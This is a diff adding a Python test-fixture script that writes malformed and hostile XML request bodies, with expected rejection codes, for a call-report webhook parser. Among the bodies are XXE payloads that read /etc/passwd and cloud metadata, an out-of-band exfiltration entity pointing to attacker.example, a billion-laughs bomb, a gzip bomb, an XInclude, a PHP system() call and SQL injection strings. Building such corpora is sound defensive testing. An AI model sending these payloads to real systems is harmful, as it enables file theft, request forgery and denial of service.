@@ -1,0 +1,311 @@
+"""Writes the hostile corpus: `python tests/events/hostile/make_corpus.py`. The bodies are committed;
+this script documents how the large and binary ones were made, and remakes them identically.
+`expected.json` holds each body's expected answer (status, error code, request headers)."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+CALL_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<call-finished>\n<callid>{id}</callid>\n<campaignid>66600</campaignid>\n'
+CALL_TAIL = "</call-finished>\n"
+LIMIT = 256 * 1024
+
+
+def call(call_id: str, inner: str = "") -> str:
+    return CALL_HEAD.format(id=call_id) + inner + CALL_TAIL
+
+
+BODIES: dict[str, tuple[bytes, dict[str, object]]] = {}
+
+
+def add(
+    name: str, body: str | bytes, status: int, error: str | None = None, **extra: object
+) -> None:
+    data = body.encode("utf-8") if isinstance(body, str) else body
+    BODIES[name] = (data, {"status": status, "error": error, **extra})
+
+
+add(
+    "xxe_file.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<call-finished><callid>&x;</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+add(
+    "xxe_http.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<call-finished><callid>&x;</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+add(
+    "external_dtd.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE call-finished SYSTEM "http://attacker.example/evil.dtd">\n<call-finished><callid>1</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+add(
+    "parameter_entities.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?%file;\'>">%eval;%exfil;]>\n<call-finished><callid>1</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+laughs = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
+add(
+    "billion_laughs.xml",
+    f'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">{laughs}]>\n<call-finished><callid>&lol9;</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+add(
+    "quadratic_blowup.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
+    + "a" * 50_000
+    + '">]>\n<call-finished><callid>1</callid><notes>'
+    + "&a;" * 1000
+    + "</notes></call-finished>\n",
+    400,
+    "forbidden_xml",
+)
+add(
+    "internal_subset_only.xml",
+    '<?xml version="1.0"?>\n<!DOCTYPE call-finished [<!ELEMENT call-finished ANY>]>\n<call-finished><callid>1</callid></call-finished>\n',
+    400,
+    "forbidden_xml",
+)
+add(
+    "deep_nesting_10000.xml",
+    call("7001", "<survey>" * 10_000 + "deep" + "</survey>" * 10_000 + "\n"),
+    200,
+    kind="call",
+)
+add(
+    "deep_known_nesting_10000.xml",
+    call("7002", "<notes>" * 10_000 + "</notes>" * 10_000 + "\n"),
+    200,
+    kind="call",
+)
+add(
+    "over_limit.xml",
+    call("7003", "<notes>" + "x" * (LIMIT + 1) + "</notes>\n"),
+    413,
+    "body_too_large",
+)
+add("huge_value.xml", call("7004", "<notes>" + "n" * 150_000 + "</notes>\n"), 200, kind="call")
+add(
+    "huge_value_item_too_large.xml",
+    call("7005", "<notes>" + "n" * 200_000 + "</notes>\n"),
+    413,
+    "body_too_large",
+)
+add(
+    "gzip_encoded.xml.gz",
+    gzip.compress(call("7006", "<disposition>LA</disposition>\n").encode(), mtime=0),
+    200,
+    kind="call",
+    headers={"content-encoding": "gzip"},
+)
+add(
+    "gzip_bomb.xml.gz",
+    gzip.compress(call("7007", "<notes>" + "\n" * (64 * LIMIT) + "</notes>").encode(), mtime=0),
+    413,
+    "body_too_large",
+    headers={"content-encoding": "gzip"},
+)
+add(
+    "gzip_corrupt.xml.gz",
+    b"\x1f\x8b\x08\x00" + b"\x00" * 40,
+    400,
+    "not_well_formed",
+    headers={"content-encoding": "gzip"},
+)
+add("brotli_encoding.xml", call("7008"), 400, "not_well_formed", headers={"content-encoding": "br"})
+add(
+    "latin1_accents.xml",
+    (
+        '<?xml version="1.0" encoding="ISO-8859-1"?>\n<call-finished><callid>7009</callid><notes>Café crème, señor Müller</notes></call-finished>\n'
+    ).encode("latin-1"),
+    200,
+    kind="call",
+    headers={"content-type": "application/xml; charset=ISO-8859-1"},
+    stored={"notes": "Café crème, señor Müller"},
+)
+add(
+    "windows1252_quotes.xml",
+    (
+        '<?xml version="1.0" encoding="windows-1252"?>\n<call-finished><callid>7010</callid><notes>\u201cquoted\u201d \u2013 \u20ac5</notes></call-finished>\n'
+    ).encode("cp1252"),
+    200,
+    kind="call",
+    stored={"notes": "\u201cquoted\u201d \u2013 \u20ac5"},
+)
+add("utf8_bom.xml", b"\xef\xbb\xbf" + call("7011").encode(), 200, kind="call")
+add("utf16_bom.xml", call("7012").replace("UTF-8", "UTF-16").encode("utf-16"), 200, kind="call")
+add(
+    "cdata.xml",
+    call("7013", "<notes><![CDATA[<b>bold</b> & </notes> inside]]></notes>\n"),
+    200,
+    kind="call",
+    stored={"notes": "<b>bold</b> & </notes> inside"},
+)
+add(
+    "unclosed_cdata.xml",
+    call("7014", "<notes><![CDATA[never closed</notes>\n"),
+    400,
+    "not_well_formed",
+)
+add("truncated.xml", call("7015", "<disposition>LA</disposition>\n")[:-40], 400, "not_well_formed")
+add(
+    "unknown_root.xml",
+    '<?xml version="1.0"?>\n<call-started><callid>1</callid></call-started>\n',
+    422,
+    "unknown_report",
+)
+add(
+    "api11_notification.xml",
+    '<n:CallFinished xmlns:n="http://api.callfire.com/notification/xsd"><n:SubscriptionId>1</n:SubscriptionId></n:CallFinished>\n',
+    422,
+    "unknown_report",
+)
+add(
+    "missing_callid.xml",
+    "<call-finished><campaignid>1</campaignid></call-finished>\n",
+    422,
+    "unknown_report",
+)
+add("callid_too_long.xml", call("9" * 600), 422, "unknown_report")
+add(
+    "json_body.json",
+    '{"callid": "1", "campaignid": "2"}',
+    400,
+    "not_well_formed",
+    headers={"content-type": "application/json"},
+)
+add("empty_body.xml", b"", 400, "not_well_formed")
+add("whitespace_only.xml", "  \n\t\n", 400, "not_well_formed")
+add(
+    "form_encoded.txt",
+    "xml=%3Ccall-finished%3E%3Ccallid%3E1%3C%2Fcallid%3E%3C%2Fcall-finished%3E",
+    400,
+    "not_well_formed",
+    headers={"content-type": "application/x-www-form-urlencoded"},
+)
+add(
+    "control_characters.xml",
+    call("7016", "<notes>bell \x07 here</notes>\n"),
+    400,
+    "not_well_formed",
+)
+add("null_byte.xml", call("7017", "<notes>nul \x00 here</notes>\n"), 400, "not_well_formed")
+add(
+    "invalid_utf8.xml",
+    call("7018").encode().replace(b"<campaignid>", b"<campaignid>\xff\xfe"),
+    400,
+    "not_well_formed",
+)
+add(
+    "unknown_encoding.xml",
+    '<?xml version="1.0" encoding="x-klingon"?><call-finished><callid>1</callid></call-finished>',
+    400,
+    "not_well_formed",
+)
+add(
+    "two_roots.xml",
+    "<call-finished><callid>1</callid></call-finished><call-finished><callid>2</callid></call-finished>",
+    400,
+    "not_well_formed",
+)
+add(
+    "repeated_elements.xml",
+    call(
+        "7019",
+        "<disposition>LA</disposition><disposition>AM</disposition><duration>1</duration><duration>2</duration>\n",
+    ),
+    200,
+    kind="call",
+    stored={"disposition": "LA"},
+)
+add(
+    "thousand_tags.xml",
+    call("7020", "<tags>" + "".join(f"<tag>tag {i}</tag>" for i in range(1000)) + "</tags>\n"),
+    200,
+    kind="call",
+)
+add(
+    "thousand_stored_variables.xml",
+    call(
+        "7021",
+        "<stored-data>"
+        + "".join(f'<var name="v{i}">{i}</var>' for i in range(1000))
+        + "</stored-data>\n",
+    ),
+    200,
+    kind="call",
+)
+add(
+    "thousand_attributes.xml",
+    call("7022", "<carrier " + " ".join(f'a{i}="{i}"' for i in range(1000)) + "/>\n"),
+    200,
+    kind="call",
+)
+add(
+    "processing_instruction.xml",
+    call("7023", '<?php system("id"); ?><notes>kept</notes>\n'),
+    200,
+    kind="call",
+    stored={"notes": "kept"},
+)
+add(
+    "xinclude.xml",
+    call(
+        "7024",
+        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>\n',
+    ),
+    200,
+    kind="call",
+)
+add(
+    "script_in_values.xml",
+    call(
+        "7025",
+        "<notes>&lt;script&gt;alert(1)&lt;/script&gt;</notes><agentresponse>'; DROP TABLE calls; --</agentresponse>\n",
+    ),
+    200,
+    kind="call",
+    stored={"notes": "<script>alert(1)</script>", "agentResponse": "'; DROP TABLE calls; --"},
+)
+add(
+    "crlf_line_endings.xml",
+    call("7026", "<disposition>\r\nLA\r\n</disposition>\r\n").replace("\n", "\r\n"),
+    200,
+    kind="call",
+    stored={"disposition": "LA"},
+)
+add(
+    "many_comments.xml",
+    call("7027", "<!-- c -->" * 20_000 + "<disposition>LA</disposition>\n"),
+    200,
+    kind="call",
+)
+add(
+    "campaign_non_numeric_stats.xml",
+    "<campaign-finished><campaign><id>7028</id><cost>lots</cost><campaign-stats><total>NaN</total><live>-1</live></campaign-stats></campaign></campaign-finished>",
+    200,
+    kind="campaign",
+    stored={"costRaw": "lots", "live": -1},
+)
+
+
+def main() -> None:
+    expected = {}
+    for name, (body, answer) in BODIES.items():
+        (HERE / name).write_bytes(body)
+        expected[name] = {key: value for key, value in answer.items() if value is not None}
+    (HERE / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
+    print(f"{len(BODIES)} bodies written to {HERE}")
+
+
+if __name__ == "__main__":
+    main()
